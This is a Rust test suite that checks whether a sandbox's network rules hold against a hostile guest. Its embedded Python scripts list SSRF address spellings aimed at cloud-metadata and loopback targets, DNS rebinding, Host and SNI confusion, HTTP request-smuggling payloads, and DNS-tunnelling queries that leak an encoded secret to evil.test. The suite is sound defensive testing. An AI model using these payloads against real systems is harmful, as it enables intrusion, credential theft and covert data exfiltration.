//! Attacks on the network boundary, by a guest with network rules and by servers that it talks to. The test network's
//! log decides; the guest's own output does not.

use crate::network_world::{attack, internet, lines, seen};
use crate::support::BOTH;
use serde_json::json;

/// Addresses that no rule names (this host, its network, cloud metadata), in every spelling that programs accept.
const FORBIDDEN: &str = r#"
PLACES = ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "127.0.0.53", "0.0.0.0", "0",
  "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "10.9.8.7", "192.168.1.1",
  "172.16.0.1", "100.100.100.200", "168.63.129.16", "192.0.0.8", "192.0.0.192", "224.0.0.1", "255.255.255.255", "198.18.0.1",
  "::", "::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1", "::169.254.169.254", "::ffff:0:169.254.169.254",
  "64:ff9b::a9fe:a9fe", "64:ff9b::10.9.8.7", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::", "2002:7f00:1::1",
  "2001:0:5ef5:79fd::1", "fe80::1", "fe80::1%lo", "fd00:ec2::254", "fec0::1", "ff02::1", "localhost", "localhost.",
  "LOCALHOST", "x.localhost", "169.254.169.254.", "[::1]", "meta.test", "META.test.", "lan.test", "loop.test",
  "zero.test", "six.test", "nat.test", "169.254.169.254\0.good.test",   "good.test@169.254.169.254", "169.254.169.254#good.test", "good.test%00", "http://good.test", "\uff11\uff10.9.8.7",
  "good\u3002test@10.9.8.7"]
def one(place, way):
    try: got = way(place, 80)
    except (OSError, UnicodeError, ValueError): got = b""
    if b"hello" in got: print("reached", ascii(place), way.__name__, flush=True)
at_once(one, [(p, w) for p in PLACES for w in EVERY])
"#;

/// No spelling, name or proxy leads to a special address.
#[test]
fn no_spelling_leads_to_a_special_address() {
    const CONTROL: &str = "assert b'hello' in direct('good.test'), 'control'\nfor way in (socks, connect, absolute):\n    assert b'hello' in way('good.test'), way\n";
    for who in BOTH {
        let world = internet(who);
        let all_tests = world.place.policy(json!({"version": 1, "extends": ["default"], "net": {"rules": [
            {"action": "allow", "host": "good.test"}, {"action": "allow", "host": "*"}]}}));
        for flags in [&["--net", "good.test"][..], &["-p", "default", "-p", "networked"], &["-p", &all_tests]] {
            let run = attack(&world, flags, &format!("{FORBIDDEN}\n{CONTROL}"));
            run.assert_ok();
            assert_eq!(run.stdout(), "", "{who:?} {flags:?}: {}", run.story());
        }
        assert_eq!(lines(&world, "tcp"), ["tcp 5.5.5.5 80"], "{who:?}");
        // Control: an explicit rule reaches the address.
        let named = ["--net", "169.254.169.254/32", "--net", "64:ff9b::a9fe:a9fe/128"];
        let run = attack(&world, &named, "print(direct('169.254.169.254'), direct('64:ff9b::a9fe:a9fe'))");
        assert_eq!(run.stdout().matches("hello").count(), 2, "{}", run.story());
        let reached = lines(&world, "tcp");
        assert!(reached.contains(&"tcp 169.254.169.254 80".into()), "{reached:?}");
        assert!(reached.contains(&"tcp 64:ff9b::a9fe:a9fe 80".into()), "{reached:?}");
    }
}

/// DNS rebinding: a name that resolves to another address at the second lookup.
#[test]
fn a_name_that_turns_leads_nowhere_else() {
    const TURN: &str = "
assert b'hello' in direct('turns.test')
for way in EVERY:
    for _ in range(4): way('turns.test')
assert b'hello' in direct('mixed.test') and b'hello' in connect('mixed.test') and b'hello' in socks('mixed.test')
";
    for who in BOTH {
        let world = internet(who);
        let run = attack(&world, &["--net", "turns.test", "--net", "mixed.test"], TURN);
        run.assert_ok();
        assert_eq!(lines(&world, "tcp"), ["tcp 5.5.5.10 80", "tcp 5.5.5.9 80"], "{}", run.story());
        let asked = seen(&world).lines().filter(|l| *l == "dns turns.test 1").count();
        assert!(asked > 3, "it was asked for again: {asked}");
    }
}

/// Redirects from an allowed server to other hosts.
#[test]
fn redirects_are_judged_as_any_other() {
    for who in BOTH {
        let world = internet(who);
        let curl = "for to in 169.254.169.254 127.0.0.1 10.9.8.7 [::1] [64:ff9b::a9fe:a9fe] bad.test 5.5.5.5 meta.test 2852039166; do
            curl -gsS -m 5 -L http://good.test/to/$to; curl -gsS -m 5 -L -x http://192.0.0.53:3128 http://good.test/to/$to;
            curl -gsS -m 5 -L -x socks5h://192.0.0.53:1080 http://good.test/to/$to; done; curl -sS -m 5 -L http://good.test/to/other.test";
        let run = world.sh(&["--net", "good.test", "--net", "other.test"], curl);
        run.assert_ok();
        assert_eq!(run.stdout().matches("hello").count(), 1, "only the control: {}", run.story());
        assert_eq!(lines(&world, "tcp"), ["tcp 5.5.5.5 80", "tcp 5.5.5.7 80"], "{}", run.story());
        let log = seen(&world);
        assert!(!log.contains("Host: 5.5.5.5") && !log.contains("Host: bad.test"), "{log}");
    }
}

/// SNI, Host header and destination on a shared server must name the allowed host, in every layer.
#[test]
fn all_layers_must_name_the_same_host() {
    const LAYERS: &str = r#"
def hello(name):
    context = ssl.create_default_context()
    out = ssl.MemoryBIO()
    try: context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
assert b"hello" in direct("good.test")
ADDRESS = socket.gethostbyname("good.test")
for port in (80, 443, 7000, 8443):
    for text in (hello("bad.test"), GET.format("/", "bad.test"), GET.format("http://bad.test/", "bad.test"),
                 GET.format("http://bad.test/", "good.test"), GET.format("http://good.test/", "bad.test"),
                 "GET / HTTP/1.1\r\nHost: good.test\r\nHost: bad.test\r\n\r\n", "GET / HTTP/1.1\nHost: bad.test\n\n",
                 "GET / HTTP/1.1\r\nHost : bad.test\r\n\r\n", "GET / HTTP/1.1\r\nX: y\r\n Host: bad.test\r\n\r\n",
                 "GET / HTTP/1.1\r\nHost: good.test, bad.test\r\n\r\n", "GET / HTTP/1.1\r\nHost: x@bad.test\r\n\r\n",
                 "\r\nGET / HTTP/1.1\r\nHost: bad.test\r\n\r\n", " GET / HTTP/1.1\r\nHost: bad.test\r\n\r\n",
                 "\n\r\n \tGET / HTTP/1.1\r\nHost: bad.test\r\n\r\n", "\0GET / HTTP/1.1\r\nHost: bad.test\r\n\r\n",
                 b"\xef\xbb\xbfGET / HTTP/1.1\r\nHost: bad.test\r\n\r\n", b"\xd2\x16 / HTTP/1.1\r\nHost: bad.test\r\n\r\n",
                 "PROXY TCP4 1.2.3.4 5.5.5.5 1 80\r\nGET / HTTP/1.1\r\nHost: bad.test\r\n\r\n",
                 b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\1\2\3\4\5\6\7\x08\0\1\0\x50GET / HTTP/1.1\r\nHost: bad.test\r\n\r\n",
                 b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0\0\0\x0d\1\5\0\0\0\1\x82\x86\x84\x41\x08bad.test",
                 "GET / HTTP/1.0\r\nHost: bad.test\r\n\r\n", "CONNECT bad.test:443 HTTP/1.1\r\nHost: bad.test:443\r\n\r\n",
                 GET.format("/", "good.test") + GET.format("/", "bad.test"), GET.format("/", ADDRESS),
                 GET.format("/", "good.test.bad.test"), GET.format("/", "bad.test.good.test")):
        at_once(lambda at, way: way(at, port, text), [(at, way) for at in ("good.test", ADDRESS) for way in EVERY[:3]])
for at in ("good.test", ADDRESS):
    for host in ("bad.test", ADDRESS, "bad.test:80", "good.test,bad.test"):
        if host != at: absolute("x", 80, GET.format(f"http://{at}/", host))
absolute("x", 80, GET.format("http://good.test/", "good.test") + GET.format("http://bad.test/", "bad.test"))
absolute("x", 80, GET.format("http://good.test/", "good.test") + GET.format("/", "bad.test"))
absolute("x", 80, GET.format(f"http://{ADDRESS}/", ADDRESS))
absolute("x", 80, GET.format("http://good.test@bad.test/", "bad.test"))
absolute("x", 80, GET.format("http://bad.test\\@good.test/", "good.test"))
"#;
    for who in BOTH {
        let world = internet(who).certificate(&["good.test", "bad.test"]);
        let run = attack(&world, &["--net", "good.test"], LAYERS);
        run.assert_ok();
        let log = seen(&world);
        for line in log.lines().filter(|l| l.starts_with("said")) {
            assert!(!line.contains("bad.test") && !line.contains(": 5.5.5.5"), "{who:?}: {line}");
        }
        assert!(log.contains("Host: good.test"), "control: {log}");
        // Control: with rules for both, both names arrive, with and without TLS.
        let both = ["--net", "good.test", "--net", "bad.test"];
        let text = "curl -sS -m 5 --cacert ca.pem https://bad.test/; curl -sS -m 5 http://bad.test/";
        assert_eq!(world.sh(&both, text).assert_ok().stdout(), "hellohello");
        let log = seen(&world);
        assert!(log.lines().any(|l| l.starts_with("said 5.5.5.5 443") && l.contains("bad.test")), "{log}");
    }
}

/// A real server with two sites at one address, of which a rule names one: no form of request line reaches the other.
#[test]
fn a_shared_server_shows_no_other_site() {
    const SITES: &str = r#"
AFTER = b"Host: bad.test\r\n\r\n"
TEXTS = [before + b"GET / HTTP/1.1\r\n" + AFTER for before in
         (b"", b" ", b"\t", b"\x0b", b"\x1c", b"\xa0", b"\0", b"\xef\xbb\xbf", b"\0\0\0\x08\x04\xd2\x16\x2f ", b"*1 ")]
TEXTS += [line + AFTER for line in (b"GET\x0b/\x0cHTTP/1.1\r\n", b"get / HTTP/1.1\n", b"GET x HTTP/1.0\r\n", b"{} / HTTP/1.1\r\n",
          b"GET\xa0/\xa0HTTP/1.1\r\n", b"x" * 20000 + b" / HTTP/1.1\r\n")]
def slowly(host, text):
    try:
        s = socket.create_connection((host, 8080), 3)
        for at in range(0, len(text), max(1, len(text) // 8)):
            s.sendall(text[at:at + max(1, len(text) // 8)])
            time.sleep(0.01)
        return say(s, b"")
    except OSError: return b""
where = sys.argv[1]
for text in TEXTS: print(sum(b"hello from bad.test" in got for got in (direct(where, 8080, text), slowly(where, text))), flush=True)
print(b"hello" in direct("good.test", 8080))
"#;
    for who in BOTH {
        let world = internet(who);
        let file = world.place.file("home/project/sites.py", format!("{}\n{SITES}", crate::network_world::WAYS));
        let python =
            |place: &str, flags: &[&str]| world.run(flags, &["/usr/bin/python3", file.to_str().unwrap(), place]);
        let run = python("good.test", &["--net", "good.test:8080"]);
        let results = run.assert_ok().stdout();
        let results: Vec<&str> = results.lines().collect();
        assert!(
            results.len() == 17 && results[..16].iter().all(|line| *line == "0") && results[16] == "True",
            "{who:?}: {}",
            run.story()
        );
        assert_eq!(lines(&world, "site"), ["site good.test"], "{who:?}");
        // Control: under an opaque rule, which decides by address and port, the server accepts nearly all of them.
        let opaque = python("good.test", &["--net", "opaque:good.test:8080"]);
        let taken = opaque.assert_ok().stdout().lines().filter(|line| *line == "2").count();
        assert!(taken >= 12, "{who:?}: {}", opaque.story());
        assert_eq!(lines(&world, "site"), ["site bad.test", "site good.test"], "{who:?}");
    }
}

/// Request smuggling: one request for the broker must be one request for the server.
#[test]
fn nothing_is_smuggled_to_a_server() {
    const SMUGGLE: &str = r#"
H = "Host: good.test\r\n"
BAD = "GET /smuggled HTTP/1.1\r\nHost: bad.test\r\n\r\n"
CHUNK = "0\r\n\r\n"
for text in (
    f"POST / HTTP/1.1\r\n{H}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n{CHUNK}{BAD}",
    f"POST / HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n{CHUNK}{BAD}",
    f"POST / HTTP/1.1\r\n{H}Content-Length: 0\r\nContent-Length: {len(BAD)}\r\n\r\n{BAD}",
    f"POST / HTTP/1.1\r\n{H}Content-Length: 0, {len(BAD)}\r\n\r\n{BAD}",
    f"POST / HTTP/1.1\r\n{H}Content-Length: +0\r\n\r\n{BAD}",
    f"POST / HTTP/1.1\r\n{H}Content-Length : 0\r\n\r\n{BAD}",
    f"POST / HTTP/1.1\r\n{H}Transfer-Encoding: xchunked\r\n\r\n{CHUNK}{BAD}",
    f"POST / HTTP/1.1\r\n{H}Transfer-Encoding: chunked, identity\r\n\r\n{CHUNK}{BAD}",
    f"POST / HTTP/1.1\r\n{H}Transfer-Encoding:\x0bchunked\r\n\r\n{CHUNK}{BAD}",
    f"POST / HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n0\n\n{BAD}",
    f"POST / HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n0;a=\"\r\n\r\n{BAD}",
    f"POST / HTTP/1.0\r\n{H}Transfer-Encoding: chunked\r\n\r\n{CHUNK}{BAD}",
    f"GET / HTTP/1.1\r\n{H}X: a\rGET /smuggled HTTP/1.1\rHost: bad.test\r\n\r\n",
    f"GET / HTTP/1.1\r\n{H}X: a\n\nGET /smuggled HTTP/1.1\nHost: bad.test\n\n",
    f"GET /\x00 HTTP/1.1\r\n{H}\r\n{BAD}",
    f"GET / HTTP/1.1\r\n{H}\r\n{BAD}",
    f"GET / HTTP/1.1\r\n{H}Upgrade: x\r\nConnection: upgrade\r\n\r\n{BAD}",
    f"GET / HTTP/1.1\r\n{H}Expect: 100-continue\r\nContent-Length: {len(BAD)}\r\n\r\n" + BAD.replace("smuggled", "body"),
):
    whole = text.replace(" / ", " http://good.test/ ")
    at_once(lambda way, text: way("good.test", 80, text), [(direct, text), (socks, text), (connect, text), (absolute, whole)])
assert b"hello" in direct("good.test", 80, f"POST /control HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n")
"#;
    for who in BOTH {
        let world = internet(who);
        let run = attack(&world, &["--net", "good.test"], SMUGGLE);
        run.assert_ok();
        let log = seen(&world);
        assert!(!log.contains("/smuggled"), "{who:?}: {log}");
        assert!(log.contains("/control") && log.contains("/body"), "controls: {log}");
    }
}

/// Response smuggling: bytes that a server sends after its response answer no later request.
#[test]
fn nothing_is_smuggled_to_the_guest() {
    const ASK: &str = r#"
s = socket.create_connection(("192.0.0.53", 3128), 5)
s.settimeout(5)
def ask(host, path):
    s.sendall(GET.format(f"http://{host}{path}", host).encode())
    got = b""
    while b"hello" not in got and b"first" not in got and b"second" not in got:
        part = s.recv(65536)
        if not part: return got + b" end"
        got += part
    return got
print(ask("good.test", "/two"))
print(ask("other.test", "/"))
for path in ("/early", "/short", "/double", "/both"): print(path, direct("good.test", 80, GET.format(path, "good.test")))
"#;
    for who in BOTH {
        let run = attack(&internet(who), &["--net", "good.test", "--net", "other.test"], ASK);
        run.assert_ok();
        let stdout = run.stdout();
        let of = |n: usize| stdout.lines().nth(n).unwrap_or_default();
        assert!(of(0).contains("first") && of(1).contains("hello") && !of(1).contains("second"), "{}", run.story());
        assert!(of(2).matches("103 Early").count() == 3 && of(2).contains("hinted"), "{}", run.story());
        assert!(of(3).contains("short"), "{}", run.story());
        assert!(!of(4).contains("smuggled") && !of(5).contains("smuggled"), "{}", run.story());
    }
}

/// DNS tunnelling: queries leave only for allowed names, and only for address records.
#[test]
fn names_are_no_channel() {
    const ASK: &str = r#"
def question(name, kind, number=7):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode("latin1").split(b".") if l)
    return struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
def ask(server, message, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    s.sendto(message, (server, 53))
    try: return s.recv(4096)
    except OSError: return b""
def ask_on_stream(server, message):
    try: s = socket.create_connection((server, 53), 3)
    except OSError: return b""
    return say(s, struct.pack(">H", len(message)) + message)
LEAK = "c2VjcmV0" * 7
NAMES = [LEAK + ".evil.test", LEAK + ".good.test", "sub.good.test", "test", "good.test.evil.test", "xgood.test", "wild.test",
         ".".join([LEAK] * 4) + ".wild.tes", "good.test\0.evil.test", LEAK + "." + "evil.org", "1.0.0.10.in-addr.arpa", "dns.google"]
STREAM, SIX = "stream", socket.AF_INET6
def put(how, server, name, kind):
    if how == STREAM: ask_on_stream(server, question(name, kind))
    else: ask(server, question(name, kind), how)
jobs = []
for name in NAMES:
    jobs += [(socket.AF_INET, "192.0.0.53", name, kind) for kind in (1, 28)] + [(STREAM, "8.8.8.8", name, 1)]
    jobs += [(socket.AF_INET, server, name, 1) for server in ("8.8.8.8", "192.0.0.8", "9.9.9.9")]
    jobs += [(SIX, "2001:4860:4860::8888", name, 1)]
for name in ("good.test", "a.wild.test", LEAK + ".wild.test"):
    for kind in (2, 5, 6, 10, 12, 15, 16, 33, 35, 64, 65, 99, 255, 256, 257, 65280):
        jobs += [(socket.AF_INET, "192.0.0.53", name, kind), (STREAM, "9.9.9.9", name, kind)]
at_once(put, jobs)
# Two questions, other classes, other message types, trailing bytes, and large amounts.
plain = question("good.test", 1)
for message in (plain[:4] + b"\0\2" + plain[6:] + plain[12:], plain[:-1] + b"\3", b"\0\7\x28\0" + plain[4:],
                b"\0\7\x20\0" + plain[4:], plain[:30], plain + LEAK.encode() * 5, plain[:7] + b"\1" + plain[8:] + b"x"):
    ask("192.0.0.53", message)
at_once(lambda way, host, port: way(host, port), [(way, *to) for way in EVERY
        for to in (("dns.google", 443), ("8.8.8.8", 443), ("8.8.8.8", 53), ("9.9.9.9", 53))])
ask("192.0.0.53", question("b.wild.test", 1))
assert socket.inet_aton("5.5.5.5") in ask("192.0.0.53", question("good.test", 1))
assert socket.inet_aton("5.5.5.5") in ask("8.8.4.4", question("gOOd.test", 1))
assert socket.inet_aton("5.5.5.5") in ask_on_stream("8.8.4.4", plain)
"#;
    for who in BOTH {
        let world = internet(who);
        let run = attack(&world, &["--net", "good.test", "--net", "*.wild.test"], ASK);
        run.assert_ok();
        let asked = lines(&world, "dns");
        assert_eq!(asked, ["dns b.wild.test 1", "dns good.test 1"], "{who:?}");
        assert_eq!((lines(&world, "udp"), lines(&world, "tcp")), (vec![], vec![]), "{who:?}");
        let all = ["-p", "default", "-p", "networked"];
        attack(&world, &all, "direct('bad.test')").assert_ok();
        assert!(lines(&world, "dns").contains(&"dns bad.test 1".into()), "control");
    }
}

/// Datagrams, QUIC among them, need a rule.
#[test]
fn datagrams_leave_by_rule_only() {
    const SEND: &str = r#"
try: socket.gethostbyname("good.test")
except OSError: pass
for family, hosts in ((socket.AF_INET, ("5.5.5.5", "8.8.8.8", "169.254.169.254", "255.255.255.255", "224.0.0.251", "10.9.8.7")),
                      (socket.AF_INET6, ("::ffff:5.5.5.5", "2606::1", "ff02::fb", "fe80::1"))):
    for host in hosts:
        for port in (53, 123, 443, 7000):
            for size in (1, 1200, 9000, 65000):
                s = socket.socket(family, socket.SOCK_DGRAM)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                try: s.sendto(b"\xc3" * size, (host, port))
                except OSError: pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
said = None
# After such a flood a datagram may be lost, as on any network.
for _ in range(3):
    s.sendto(b"time?", ("5.5.5.5", 123))
    try: said = s.recv(10)
    except OSError as e: said = said or type(e).__name__
    if said == b"time?": break
print(said)
"#;
    for who in BOTH {
        let world = internet(who);
        for flags in [&["--net", "good.test"][..], &["--net", "5.5.5.5/32"], &["-p", "default", "-p", "networked"]] {
            let run = attack(&world, flags, SEND);
            assert_eq!(run.assert_ok().stdout(), "TimeoutError\n", "{}", run.story());
        }
        assert_eq!(lines(&world, "udp"), Vec::<String>::new(), "{who:?}");
        let policy = world.place.policy(json!({"version": 1, "extends": ["default"], "net": {"rules": [
            {"action": "allow", "proto": "udp", "host": "good.test", "ports": "123"}]}}));
        assert_eq!(attack(&world, &["-p", &policy], SEND).assert_ok().stdout(), "b'time?'\n");
        assert!(lines(&world, "udp").iter().all(|l| l.starts_with("udp 123 ")), "{:?}", lines(&world, "udp"));
    }
}
